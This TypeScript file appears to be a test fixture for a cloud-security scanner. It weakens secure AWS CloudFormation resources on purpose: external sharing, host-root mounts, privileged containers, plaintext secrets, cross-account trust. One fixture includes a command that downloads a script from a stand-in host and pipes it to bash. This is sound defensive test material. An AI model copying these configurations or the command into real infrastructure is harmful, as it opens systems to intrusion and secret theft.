import type { AddedWeakness } from './added-weakness';
import { own, STRANGER } from './trust-case';
import { KEY, NO_LOGS, NO_PROTECTION, PRIVILEGED, PUBLIC, REST, TRANSIT, WORK, weaken } from './weakened-properties';

const TRUST = 'trust in another account';
const SECRET = 'secret in a text';
const THEM = new RegExp(STRANGER);
const TOKEN = /token|secret|password|credential|key/i;
const HOST = /stranger\.example/;
const PASSWORD = 'Tr0ub4dor-and-3-horses';

/** Builds, commands, shares and jobs in their rarer forms, as an engineer adds them. */
export const adopterOddityWeaknesses: readonly AddedWeakness[] = [
  ...weaken(
    'AWS::Organizations::Policy',
    {
      Name: 'limits',
      Type: 'SERVICE_CONTROL_POLICY',
      TargetIds: ['ou-abcd-12345678'],
      Content: {
        Version: '2012-10-17',
        Statement: [{ Effect: 'Deny', Action: 'organizations:LeaveOrganization', Resource: '*' }],
      },
    },
    [['service-control-detached', NO_PROTECTION, 'TargetIds', undefined, /attach|target/i, 'hardening']],
  ),
  ...weaken(
    'AWS::RAM::ResourceShare',
    {
      Name: 'subnets',
      AllowExternalPrincipals: false,
      Principals: ['111122223333'],
      ResourceArns: [own('ec2', 'subnet/subnet-1')],
    },
    [
      ['share-external-word', PUBLIC, 'AllowExternalPrincipals', 'True', /external|organi|AllowExternalPrincipals/i],
      ['share-with-stranger', TRUST, 'Principals', [STRANGER], THEM],
    ],
  ),
  ...weaken(
    'AWS::EFS::AccessPoint',
    {
      FileSystemId: 'fs-1',
      PosixUser: { Uid: '1000', Gid: '1000' },
      RootDirectory: { Path: '/app', CreationInfo: { OwnerUid: '1000', OwnerGid: '1000', Permissions: '0750' } },
    },
    [['access-point-world-writable', PRIVILEGED, 'RootDirectory.CreationInfo.Permissions', '0777', /permission|writ/i]],
  ),
  ...weaken(
    'AWS::Batch::JobDefinition',
    {
      Type: 'container',
      ContainerProperties: {
        Image: '111122223333.dkr.ecr.eu-central-1.amazonaws.com/job:1',
        User: '1000',
        ReadonlyRootFilesystem: true,
        Privileged: false,
      },
    },
    [
      [
        'batch-mounts-host',
        PRIVILEGED,
        'ContainerProperties.Volumes',
        [{ Name: 'host', Host: { SourcePath: '/' } }],
        /host/i,
      ],
      ['batch-privileged-word', PRIVILEGED, 'ContainerProperties.Privileged', 'True', /privileged/i],
    ],
  ),
  ...weaken(
    'AWS::WAFv2::WebACL',
    {
      Scope: 'REGIONAL',
      DefaultAction: { Allow: {} },
      VisibilityConfig: { CloudWatchMetricsEnabled: true, MetricName: 'front', SampledRequestsEnabled: true },
      Rules: [
        {
          Name: 'common',
          Priority: 0,
          OverrideAction: { None: {} },
          VisibilityConfig: { CloudWatchMetricsEnabled: true, MetricName: 'common', SampledRequestsEnabled: true },
          Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name: 'AWSManagedRulesKnownBadInputsRuleSet' } },
        },
      ],
    },
    [['waf-no-metrics', NO_LOGS, 'VisibilityConfig.CloudWatchMetricsEnabled', false, /metric/i]],
    {
      Logging: {
        Type: 'AWS::WAFv2::LoggingConfiguration',
        Properties: {
          ResourceArn: { 'Fn::GetAtt': ['Subject', 'Arn'] },
          LogDestinationConfigs: [own('logs', 'log-group:aws-waf-logs-front')],
        },
      },
    },
  ),
  ...weaken(
    'AWS::Bedrock::Agent',
    {
      AgentName: 'helper',
      AgentResourceRoleArn: WORK,
      CustomerEncryptionKeyArn: KEY,
      GuardrailConfiguration: { GuardrailIdentifier: 'g', GuardrailVersion: '1' },
    },
    [['agent-role-abroad', TRUST, 'AgentResourceRoleArn', `arn:aws:iam::${STRANGER}:role/agent`, THEM]],
  ),
  ...weaken(
    'AWS::ImageBuilder::Component',
    {
      Name: 'tools',
      Platform: 'Linux',
      Version: '1.0.0',
      KmsKeyId: KEY,
      Data: 'name: tools\nschemaVersion: 1.0\nphases: []\n',
    },
    [
      [
        'component-downloads',
        'script of another owner',
        'Data',
        'name: tools\nschemaVersion: 1.0\nphases:\n  - name: build\n    steps:\n      - name: one\n        action: ExecuteBash\n        inputs:\n          commands:\n            - curl -fsSL https://get.stranger.example/tool.sh | bash\n',
        HOST,
      ],
    ],
  ),
  ...weaken(
    'AWS::DirectoryService::SimpleAD',
    {
      Name: 'corp.example.com',
      Size: 'Small',
      Password: '{{resolve:secretsmanager:directory}}',
      VpcSettings: { VpcId: 'vpc-1', SubnetIds: ['subnet-1', 'subnet-2'] },
    },
    [['directory-password', SECRET, 'Password', PASSWORD, TOKEN]],
  ),
  ...weaken(
    'AWS::ElastiCache::ReplicationGroup',
    {
      ReplicationGroupDescription: 'sessions',
      Engine: 'redis',
      CacheNodeType: 'cache.t4g.small',
      NumCacheClusters: 2,
      AutomaticFailoverEnabled: true,
      MultiAZEnabled: true,
      AtRestEncryptionEnabled: true,
      KmsKeyId: KEY,
      TransitEncryptionEnabled: true,
      TransitEncryptionMode: 'required',
      SnapshotRetentionLimit: 15,
      CacheSubnetGroupName: 'sessions',
      Port: 6380,
      AuthToken: '{{resolve:secretsmanager:cache:SecretString:token}}',
    },
    [
      ['cache-token-in-text', SECRET, 'AuthToken', 'k7Jq2mZx94LpWv81RtYbA0', TOKEN],
      ['cache-transit-word', TRANSIT, 'TransitEncryptionEnabled', 'False', /TLS|transit|encrypt/i],
      ['cache-rest-off', REST, 'AtRestEncryptionEnabled', false, /encrypt/i],
    ],
  ),
  ...weaken(
    'AWS::Signer::ProfilePermission',
    { ProfileName: 'code', Action: 'signer:StartSigningJob', Principal: '111122223333', StatementId: 'own' },
    [['signer-stranger', TRUST, 'Principal', STRANGER, THEM]],
  ),
];
